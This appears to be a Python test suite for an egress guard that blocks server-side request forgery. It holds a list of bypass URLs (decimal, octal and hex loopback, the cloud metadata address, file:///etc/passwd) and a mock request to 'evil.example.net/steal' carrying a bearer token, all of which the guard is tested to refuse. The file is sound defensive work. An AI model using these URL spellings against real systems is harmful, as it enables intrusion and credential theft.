"""Outbound requests go only where they should (engine/adapters/egress.py).

The reproductions of issue 11 item 1 are here: a decimal IP, an IPv4-mapped IPv6
address, localhost on PostgreSQL's port, the cloud metadata address and file:// are all
refused before a byte is sent, and credentials never travel to another host.
"""

from __future__ import annotations

import asyncio
import ipaddress
import socket
import threading

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.adapters.base import ConnectionConfig, client_for
from engine.adapters.egress import (
    EgressError,
    EgressPolicy,
    GuardedTransport,
    address_problem,
    url_problem,
)

DENY = EgressPolicy()
LOOPBACK_OK = EgressPolicy(allow_loopback=True)


@pytest.mark.parametrize("url", [
    "http://2130706433:18999", "http://[::ffff:127.0.0.1]/", "http://localhost:5432",
    "http://169.254.169.254/", "file:///etc/passwd", "https://10.0.0.5/api",
    "https://192.168.1.1", "https://[fe80::1]/", "https://0.0.0.0/", "https://0177.0.0.1/",
    "https://0x7f000001/", "http://api.example.com/", "https://user:pw@api.example.com/",
    "gopher://api.example.com/", "https://api.example.com:99999/", "https:///nohost",
])
def test_disallowed_base_urls_are_named(url: str) -> None:
    assert url_problem(url, DENY) is not None


@pytest.mark.parametrize("url", ["https://api.cinode.com", "https://api.kleer.se/v1",
                                 "https://93.184.216.34/"])
def test_public_https_is_fine(url: str) -> None:
    assert url_problem(url, DENY) is None


def test_loopback_http_only_when_the_operator_allows_it() -> None:
    assert url_problem("http://127.0.0.1:8080", DENY) is not None
    assert url_problem("http://127.0.0.1:8080", LOOPBACK_OK) is None
    assert url_problem("http://localhost:8080", LOOPBACK_OK) is None
    # Allowing loopback allows loopback only: metadata and private ranges stay closed.
    assert url_problem("http://169.254.169.254/", LOOPBACK_OK) is not None
    assert url_problem("http://10.1.2.3/", LOOPBACK_OK) is not None


@settings(max_examples=300, deadline=None)
@given(st.integers(min_value=0, max_value=2**32 - 1))
def test_every_spelling_of_an_ipv4_address_gets_the_same_verdict(value: int) -> None:
    """Dotted, decimal and IPv4-mapped IPv6 forms of one address are judged alike."""
    address = ipaddress.IPv4Address(value)
    verdicts = {
        url_problem(f"https://{address}/", DENY) is None,
        url_problem(f"https://{value}/", DENY) is None,
        url_problem(f"https://[::ffff:{address}]/", DENY) is None,
    }
    assert len(verdicts) == 1
    assert (address_problem(address, DENY) is None) in verdicts


class _Listener:
    """A TCP listener on loopback that counts the connections it accepts."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


@pytest.fixture
def listener():
    server = _Listener()
    yield server
    server.close()


def _config(url: str) -> ConnectionConfig:
    return ConnectionConfig("crm", "kleer", url, {"token": "s3cret"})


@pytest.mark.scenario("S29")
@pytest.mark.parametrize("form", ["{decimal}", "127.0.0.1", "[::ffff:127.0.0.1]", "localhost"])
async def test_nothing_reaches_a_loopback_listener_unless_allowed(listener: _Listener,
                                                                  form: str) -> None:
    host = form.format(decimal=int(ipaddress.IPv4Address("127.0.0.1")))
    url = f"http://{host}:{listener.port}"
    async with client_for(_config(url), policy=DENY) as client:
        with pytest.raises(EgressError):
            await client.get("/clients", headers={"Authorization": "Basic czNjcmV0"})
    await asyncio.sleep(0.3)
    assert listener.accepted == 0


async def test_the_sandboxes_are_reached_when_loopback_is_allowed(listener: _Listener) -> None:
    async with client_for(_config(f"http://127.0.0.1:{listener.port}"),
                          policy=LOOPBACK_OK) as client:
        with pytest.raises(httpx.TransportError):  # the listener hangs up at once
            await client.get("/clients")
    assert listener.accepted >= 1


async def test_credentials_never_go_to_another_host() -> None:
    seen: list[httpx.Request] = []

    async def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(200)

    guard = GuardedTransport(httpx.MockTransport(handler), "https://api.example.com",
                             EgressPolicy())
    async with httpx.AsyncClient(transport=guard, base_url="https://api.example.com") as client:
        with pytest.raises(EgressError, match=r"may only reach api\.example\.com"):
            await client.get("https://evil.example.net/steal",
                             headers={"Authorization": "Bearer s3cret"})
    assert seen == []


async def test_the_request_is_pinned_to_the_address_that_was_checked() -> None:
    """The connect goes to the checked IP with the original Host header and TLS name."""
    seen: list[httpx.Request] = []

    async def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(200, json={"ok": True})

    guard = GuardedTransport(httpx.MockTransport(handler), "https://93.184.216.34",
                             EgressPolicy())
    async with httpx.AsyncClient(transport=guard, base_url="https://93.184.216.34") as client:
        answer = await client.get("/v1/info")
    assert answer.json() == {"ok": True}
    assert answer.request.url.host == "93.184.216.34"
    [sent] = seen
    assert sent.url.host == "93.184.216.34"
    assert sent.headers["host"] == "93.184.216.34"
    assert sent.extensions["sni_hostname"] == "93.184.216.34"


async def test_redirects_are_not_followed() -> None:
    async def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(302, headers={"Location": "http://169.254.169.254/latest"})

    config = _config("https://api.example.com")
    async with client_for(config, transport=httpx.MockTransport(handler)) as client:
        answer = await client.get("/clients")
    assert answer.status_code == 302 and answer.next_request is not None
    assert len(answer.history) == 0
